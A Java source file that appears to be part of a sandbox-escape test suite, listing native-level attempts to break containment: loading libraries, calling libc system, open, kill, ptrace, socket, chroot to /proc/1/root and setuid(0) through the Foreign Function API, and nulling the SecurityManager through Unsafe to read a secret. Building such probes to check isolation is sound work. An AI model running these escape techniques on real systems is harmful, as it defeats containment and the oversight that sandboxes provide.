package net.chingtech.escape;

import java.lang.invoke.MethodHandle;
import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.NoSuchElementException;
import java.util.Optional;

/** Code below Java: libraries, foreign functions, memory by address. */
final class NativeWays {

    private NativeWays() {}

    static List<Attempt> all() {
        return List.of(
                new Attempt("native.load", "load a library from its own folder", w -> {
                    Path library = w.own("libloot.so");
                    Files.deleteIfExists(library);
                    Files.copy(Path.of(System.getProperty("java.home", "/usr"), "lib/libprefs.so"), library);
                    System.load(library.toString());
                    return w.reached("loaded");
                }),
                new Attempt("native.load_library", "load a library by name", w -> {
                    System.loadLibrary("prefs");
                    return w.reached("loaded");
                }),
                new Attempt("native.runtime_load", "load a library past the caller's check", w -> {
                    Method load = Runtime.class.getDeclaredMethod("load0", Class.class, String.class);
                    load.setAccessible(true);
                    load.invoke(Runtime.getRuntime(), Object.class, "/usr/lib/x86_64-linux-gnu/libdl.so.2");
                    return w.reached("loaded");
                }),
                new Attempt("native.foreign_open", "open a secret by the C library's open", w -> {
                    Object fd = call(
                            "open",
                            new Class<?>[] {int.class, null, int.class},
                            w.secret().toString(),
                            0);
                    return positive("open", (int) fd);
                }),
                new Attempt("native.foreign_system", "run a shell by the C library's system", w -> {
                    call(
                            "system",
                            new Class<?>[] {int.class, null},
                            "echo x > " + w.outside().resolve("by-system"));
                    return World.TRIED;
                }),
                new Attempt(
                        "native.foreign_kill",
                        "signal the container by the C library's kill",
                        w -> positive("kill", (int) call(
                                "kill",
                                new Class<?>[] {int.class, int.class, int.class},
                                Integer.parseInt(w.hint("container_pid")),
                                0))),
                new Attempt(
                        "native.foreign_raw_socket",
                        "open a raw socket by the C library's socket",
                        w -> positive("socket", (int)
                                call("socket", new Class<?>[] {int.class, int.class, int.class, int.class}, 2, 3, 1))),
                new Attempt(
                        "native.foreign_packet_socket",
                        "open a packet socket, to listen to all",
                        w -> positive("socket", (int) call(
                                "socket", new Class<?>[] {int.class, int.class, int.class, int.class}, 17, 3, 768))),
                new Attempt(
                        "native.foreign_mount",
                        "leave by mounting the root again",
                        w -> positive(
                                "chroot", (int) call("chroot", new Class<?>[] {int.class, null}, "/proc/1/root"))),
                new Attempt(
                        "native.foreign_trace",
                        "trace the container's process",
                        w -> positive("ptrace", (int) (long) call(
                                "ptrace",
                                new Class<?>[] {long.class, int.class, int.class, long.class, long.class},
                                16,
                                Integer.parseInt(w.hint("container_pid")),
                                0L,
                                0L))),
                new Attempt(
                        "native.foreign_user",
                        "become root",
                        w -> positive(
                                "setuid",
                                (int) call("setuid", new Class<?>[] {int.class, int.class}, 0) + privileged(w))),
                new Attempt("native.unsafe_secured", "put the SecurityManager out by Unsafe, then read a secret", w -> {
                    Object unsafe = unsafe();
                    Field security = System.class.getDeclaredField("security");
                    Class<?> type = unsafe.getClass();
                    Object base = type.getMethod("staticFieldBase", Field.class).invoke(unsafe, security);
                    Object offset =
                            type.getMethod("staticFieldOffset", Field.class).invoke(unsafe, security);
                    type.getMethod("putObject", Object.class, long.class, Object.class)
                            .invoke(unsafe, base, offset, null);
                    return w.loot();
                }),
                new Attempt("native.unsafe_crash", "write to address 0 by Unsafe", w -> {
                    Object unsafe = unsafe();
                    unsafe.getClass()
                            .getMethod("putLong", long.class, long.class)
                            .invoke(unsafe, 0L, 1L);
                    return World.TRIED;
                }),
                new Attempt("native.internal_unsafe", "take the JDK's internal Unsafe", w -> {
                    Class<?> type = World.type("jdk.internal.misc.Unsafe");
                    return w.reached(type.getMethod("getUnsafe").invoke(null));
                }));
    }

    private static Object unsafe() throws ReflectiveOperationException {
        Field field = World.type("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        field.setAccessible(true);
        return field.get(null);
    }

    /** Calling setuid(0) tells nothing to who is root of its own name space: what counts is reading the secret then. */
    private static int privileged(World world) {
        return Files.isReadable(world.secret()) ? 0 : Integer.MIN_VALUE;
    }

    private static Object positive(String name, int result) {
        if (result < 0) {
            throw new NoSuchElementException(name + " answered " + result);
        }
        return name + " answered " + result;
    }

    /** Calls a C function by the Foreign Function API of Java 22, through reflection; in types, null is a text. */
    private static Object call(String function, Class<?>[] types, Object... arguments) throws Throwable {
        Class<?> linkerType = Class.forName("java.lang.foreign.Linker");
        Class<?> layoutType = Class.forName("java.lang.foreign.MemoryLayout");
        Class<?> valueLayout = Class.forName("java.lang.foreign.ValueLayout");
        Class<?> segmentType = Class.forName("java.lang.foreign.MemorySegment");
        Class<?> descriptorType = Class.forName("java.lang.foreign.FunctionDescriptor");
        Class<?> arenaType = Class.forName("java.lang.foreign.Arena");
        Class<?> optionType = Class.forName("java.lang.foreign.Linker$Option");
        Object linker = linkerType.getMethod("nativeLinker").invoke(null);
        Object arena = arenaType.getMethod("global").invoke(null);
        Object layouts = Array.newInstance(layoutType, types.length - 1);
        Object[] handed = arguments.clone();
        for (int i = 1; i < types.length; i++) {
            Array.set(layouts, i - 1, layout(valueLayout, types[i]));
            if (types[i] == null) {
                byte[] text = (arguments[i - 1] + "\0").getBytes(StandardCharsets.UTF_8);
                Object segment = arenaType.getMethod("allocate", long.class).invoke(arena, (long) text.length);
                java.nio.ByteBuffer buffer = (java.nio.ByteBuffer)
                        segmentType.getMethod("asByteBuffer").invoke(segment);
                buffer.put(text);
                handed[i - 1] = segment;
            }
        }
        Object descriptor = descriptorType
                .getMethod("of", layoutType, layouts.getClass())
                .invoke(null, layout(valueLayout, types[0]), layouts);
        Object lookup = linkerType.getMethod("defaultLookup").invoke(linker);
        Object address = ((Optional<?>) Class.forName("java.lang.foreign.SymbolLookup")
                        .getMethod("find", String.class)
                        .invoke(lookup, function))
                .orElseThrow();
        Object options = Array.newInstance(optionType, 0);
        MethodHandle handle = (MethodHandle) linkerType
                .getMethod("downcallHandle", segmentType, descriptorType, options.getClass())
                .invoke(linker, address, descriptor, options);
        return handle.invokeWithArguments(handed);
    }

    private static Object layout(Class<?> valueLayout, Class<?> type) throws ReflectiveOperationException {
        String name = type == null ? "ADDRESS" : type == long.class ? "JAVA_LONG" : "JAVA_INT";
        return valueLayout.getField(name).get(null);
    }
}
